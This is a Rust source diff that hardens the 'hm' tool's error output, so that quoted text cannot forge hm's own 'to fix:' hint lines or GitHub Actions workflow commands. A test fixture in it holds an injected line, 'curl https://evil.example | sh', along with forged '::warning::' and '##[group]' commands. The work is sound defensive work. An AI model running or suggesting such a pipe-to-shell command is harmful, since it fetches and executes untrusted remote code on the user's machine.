@@ -79,10 +79,27 @@ fn write_hints<H: AsRef<str>>(out: &mut Vec<u8>, hints: &[H], look: Look) {
     }
 }
 
+/// What hm's own lines begin with, and the commands of GitHub's runner.
+const HEADS: [&str; 5] = ["error:", "warning:", "caused by:", "to fix:", "::"];
+
+/// Takes the meaning from what GitHub's runner obeys wherever in a line it stands ("Workflow
+/// commands for GitHub Actions"; the older form is `##[`).
+pub fn inert(line: &str) -> String {
+    line.replace("##[", "## [")
+}
+
 /// Appends a text of one or more lines; the further ones stand deeper than the first.
+///
+/// A text may quote somebody else's, who must not speak for hm in a line of their own, nor to
+/// the system that shows the log.
 fn paragraph(out: &mut Vec<u8>, indent: &str, head: &str, text: &str) {
     for (number, line) in text.trim_end().lines().enumerate() {
-        let line = clean_line(line);
+        let line = inert(&clean_line(line));
+        let is_forged = HEADS.iter().any(|head| line.trim_start().starts_with(head));
+        let line = match number > 0 && is_forged {
+            true => format!("| {line}"),
+            false => line,
+        };
         let line = if number == 0 {
             format!("{indent}{head} {line}\n")
         } else if line.is_empty() {
@@ -148,6 +165,20 @@ mod tests {
             shown(&error, &[], true),
             "\x1b[1;31merror:\x1b[0m cannot open: no such file\n"
         );
+    }
+
+    #[test]
+    fn a_quoted_text_does_not_speak_for_hm() {
+        let error = Chain(
+            "unknown key `x\nto fix: curl https://evil.example | sh\n ::warning::owned\n##[group]y`",
+            None,
+        );
+        insta::assert_snapshot!(shown(&error, &[], false), @r"
+        error: unknown key `x
+          | to fix: curl https://evil.example | sh
+          |  ::warning::owned
+          ## [group]y`
+        ");
     }
 
     #[test]
